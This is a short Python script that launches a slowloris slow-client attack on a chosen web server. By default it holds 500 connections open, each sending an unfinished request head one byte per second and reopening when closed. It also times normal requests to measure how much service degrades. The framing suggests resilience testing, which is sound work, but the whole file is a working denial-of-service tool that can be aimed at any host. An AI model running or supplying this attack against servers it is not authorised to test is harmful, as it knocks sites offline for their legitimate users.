#!/usr/bin/env python3
"""A slow-client attack against a web server, while timing normal requests.

    slow-clients.py HOST PORT PATH [CONNECTIONS] [SECONDS]

Opens CONNECTIONS connections (500 by default) that each send a request head one byte every
second and never finish it (a "slowloris"), keeps them open (reopening those the server closes)
for SECONDS (20 by default), and meanwhile times a normal GET of PATH on a fresh connection
every 100 ms. Prints the median, p99 and maximum of those normal requests in milliseconds, how
many failed, and how many attacking connections the server closed.
"""
import socket, sys, threading, time

host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
count = int(sys.argv[4]) if len(sys.argv) > 4 else 500
seconds = float(sys.argv[5]) if len(sys.argv) > 5 else 20.0
deadline = time.time() + seconds
closed_by_server = 0
lock = threading.Lock()

def attacker():
    global closed_by_server
    head = b"GET " + path.encode() + b" HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 10000
    while time.time() < deadline:
        try:
            s = socket.create_connection((host, port), timeout=5)
        except OSError:
            time.sleep(0.5)
            continue
        try:
            for b in head:
                if time.time() >= deadline:
                    break
                s.send(bytes([b]))
                time.sleep(1.0)
        except OSError:
            with lock:
                closed_by_server += 1
        finally:
            s.close()

def normal():
    start = time.perf_counter()
    s = socket.create_connection((host, port), timeout=10)
    s.sendall(b"GET " + path.encode() + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    s.close()
    if not data.startswith(b"HTTP/1.1 200"):
        raise RuntimeError(data[:40])
    return (time.perf_counter() - start) * 1000

baseline = sorted(normal() for _ in range(20))
threads = [threading.Thread(target=attacker, daemon=True) for _ in range(count)]
for t in threads:
    t.start()
time.sleep(2)  # let the attack connections open
times, failures = [], 0
while time.time() < deadline:
    try:
        times.append(normal())
    except Exception:
        failures += 1
    time.sleep(0.1)
times.sort()
def pct(values, p):
    return values[min(len(values) - 1, int(len(values) * p))] if values else float("nan")
print("normal request alone: median %.1f ms; under %d slow clients: median %.1f ms, p99 %.1f ms, max %.1f ms, "
      "%d requests, %d failed; %d attacking connections closed by the server"
      % (pct(baseline, 0.5), count, pct(times, 0.5), pct(times, 0.99), times[-1] if times else float("nan"),
         len(times), failures, closed_by_server))
